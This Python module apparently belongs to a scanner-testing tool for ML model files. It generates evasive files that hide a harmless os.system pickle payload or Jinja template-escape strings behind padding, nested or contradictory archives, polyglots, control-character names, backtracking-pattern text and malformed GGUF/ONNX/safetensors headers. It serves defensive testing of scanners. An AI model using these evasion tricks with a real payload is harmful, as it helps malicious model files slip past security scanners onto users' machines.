"""Files that are meant for the scanner and not for the loader: see `BlindScanner`."""

from __future__ import annotations

import gzip
import io
import json
import random
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from random import Random
from typing import ClassVar

from hauberk.core.artifact import ModelFile
from hauberk.core.attack import Attacked, Transform
from hauberk.core.threat import ThreatId
from hauberk.errors import UsageError
from hauberk.methods import model_writing as write
from hauberk.methods.pickle_writing import call, name, text, whole

PAYLOAD = whole(call(name("os.system"), text("true")))
"""What must not pass unseen; it does nothing."""


@dataclass(frozen=True, slots=True, kw_only=True)
class BlindScanner(Transform[ModelFile]):
    """Hide a payload behind what crashes, stalls or misleads a scanner.

    Wrong endings, padding, junk in front and behind, archives whose headers disagree, deep nests,
    cut tails, names with control characters, text that makes backtracking patterns explode.
    Every file holds the payload, or a structure that must not be called clean.

    Args:
        way: Name of one way; by default the random generator picks one.

    References:
        MITRE ATLAS AML.T0107. CVE-2025-10155 and CVE-2025-10156 (picklescan), CVE-2025-1889 and
        CVE-2025-1945 (endings, archive flags); CWE-1333.
    """

    title: ClassVar[str] = "Blind, stall or crash the scanner with the file itself"
    threats: ClassVar[tuple[ThreatId, ...]] = (ThreatId("XC-3"),)
    subject: ClassVar[type] = ModelFile

    way: str | None = None

    def apply(self, subject: ModelFile, rng: Random) -> Attacked[ModelFile]:
        """The hostile file, in a file of its own beside ``subject``.

        Raises:
            UsageError: There is no such way.
        """
        way = self.way or rng.choice(tuple(WAYS))
        if way not in WAYS:
            raise UsageError(f"there is no way {way!r}", expected=" ".join(WAYS))
        label, data = WAYS[way](rng)
        path = subject.path.parent / label
        path.write_bytes(data)
        twin = ModelFile(name=path.name, path=path)
        return Attacked(subject=twin, truth={"way": way, "holds": PAYLOAD in data})


_ENDINGS = (".txt", ".json", ".png", ".md", ".csv", ".py", ".safetensors", ".onnx", ".gguf", "")


def _label(rng: Random) -> str:
    return f"m{rng.randrange(10**6)}"


def _rename(rng: Random) -> tuple[str, bytes]:
    return _label(rng) + rng.choice(_ENDINGS), PAYLOAD


def _control_name(rng: Random) -> tuple[str, bytes]:
    return f"{_label(rng)}\x1b[2K\r{rng.choice(('ok', 'clean'))}\u202e.pkl", PAYLOAD


def _pad(rng: Random) -> tuple[str, bytes]:
    noise = random.Random(rng.random()).randbytes(rng.randint(1, 4) << 20)
    body = b"\x80\x04B" + len(noise).to_bytes(4, "little") + noise + b"0"
    return _label(rng) + ".pkl", body + PAYLOAD[2:]


def _cut(rng: Random) -> tuple[str, bytes]:
    return _label(rng) + ".pkl", PAYLOAD[:-1] + rng.randbytes(rng.randint(1, 30))


def _behind(rng: Random) -> tuple[str, bytes]:
    """A harmless pickle first, the payload right behind it."""
    return _label(rng) + ".pt", b"\x80\x04K\x01." * rng.randint(1, 5) + PAYLOAD


def _nested(rng: Random) -> tuple[str, bytes]:
    data = PAYLOAD
    for _ in range(rng.randint(1, 5)):
        data = rng.choice((_zipped, _tarred, lambda inner: gzip.compress(inner, mtime=0)))(data)
    return _label(rng) + rng.choice((".bin", ".model", ".pt")), data


def _zipped(data: bytes) -> bytes:
    return write.zipped({"data.bin": data})


def _tarred(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("data.bin")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _junk_before(rng: Random) -> tuple[str, bytes]:
    front = rng.choice((b"\x89PNG\r\n\x1a\n", b"%PDF-1.4\n", b"GIF89a")) + rng.randbytes(99)
    return _label(rng) + ".zip", front + write.zipped({"data.pkl": PAYLOAD})


def _comment(rng: Random) -> tuple[str, bytes]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("data.pkl"), PAYLOAD)
        archive.comment = b"PK\x05\x06" * 2 + rng.randbytes(rng.randint(1, 60_000))
    return _label(rng) + ".zip", buffer.getvalue()


def _disagree(rng: Random) -> tuple[str, bytes]:
    """One name, flag or method in the directory, another before the content."""
    data = bytearray(write.zipped({"data.pkl": PAYLOAD}, compressed=False))
    central = data.find(b"PK\x01\x02")
    place = rng.choice(((6, 1), (8, 8), (30, 0x20), (central + 8, 1), (central + 46, 0x20)))
    data[place[0]] ^= place[1]
    return _label(rng) + ".pt", bytes(data)


def _twice(rng: Random) -> tuple[str, bytes]:
    first = write.zipped({"data.pkl": b"\x80\x04N."}, compressed=False)
    second = write.zipped({"data.pkl": PAYLOAD}, compressed=False)
    return _label(rng) + ".zip", first + second


def _polyglot(rng: Random) -> tuple[str, bytes]:
    tail = rng.choice((write.zipped({"a.txt": b"fine"}), write.safetensors({}, b""), b"\0" * 600))
    return _label(rng) + ".bin", PAYLOAD + tail


def _backtrack(rng: Random) -> tuple[str, bytes]:
    """Text on which patterns with nested repeats take forever, around a walk that must be seen."""
    long = rng.choice(
        ("a" * 50_000, "{% " * 9_000, "ignore " * 9_000, "<!--" * 9_000, "\\" * 50_000)
    )
    template = "{# " + long.replace("#}", "") + " #}{{ ''.__class__ }}"
    config = {"tokenizer_class": "X", "chat_template": template}
    return _label(rng) + ".json", json.dumps(config).encode()


def _no_end(rng: Random) -> tuple[str, bytes]:
    kinds = ("{% if x %}" * 3_000, "{{ " + "(" * 30_000, "{{ " + "a." * 30_000, "{% raw %}" * 3_000)
    return _label(rng) + ".jinja", (rng.choice(kinds) + "{{ messages }}").encode()


def _doubled(rng: Random) -> tuple[str, bytes]:
    """A key twice: one reader takes the first, another the last."""
    clean, bad = '"chat_template": "{{ x }}"', '"chat_template": "{{ x.__class__ }}"'
    pair = rng.choice(((clean, bad), (bad, clean)))
    return _label(rng) + ".json", f'{{"tokenizer_class": "X", {pair[0]}, {pair[1]}}}'.encode()


def _broken_header(rng: Random) -> tuple[str, bytes]:
    makers: tuple[Callable[[], bytes], ...] = (
        lambda: write.gguf({}, n_tensors=rng.randrange(1 << 40, 1 << 62)),
        lambda: write.tflite(n_claimed=rng.randrange(1 << 20, 1 << 31)),
        lambda: write.safetensors(b'{"a":' * rng.randint(300, 9_000), b""),
        lambda: write.onnx_model([], [write.onnx_tensor((rng.randrange(1 << 42, 1 << 60),), None)]),
        lambda: write.hdf5([write.hdf5_attribute("a", b"x")])[: rng.randint(100, 150)],
    )
    endings = (".gguf", ".tflite", ".safetensors", ".onnx", ".h5")
    place = rng.randrange(len(makers))
    return _label(rng) + endings[place], makers[place]()


WAYS: Mapping[str, Callable[[Random], tuple[str, bytes]]] = {
    "rename": _rename,
    "control-name": _control_name,
    "pad": _pad,
    "cut": _cut,
    "behind": _behind,
    "nested": _nested,
    "junk-before": _junk_before,
    "comment": _comment,
    "disagree": _disagree,
    "twice": _twice,
    "polyglot": _polyglot,
    "backtrack": _backtrack,
    "no-end": _no_end,
    "doubled": _doubled,
    "broken-header": _broken_header,
}
"""Name of a way to what writes the file: its name and its bytes."""
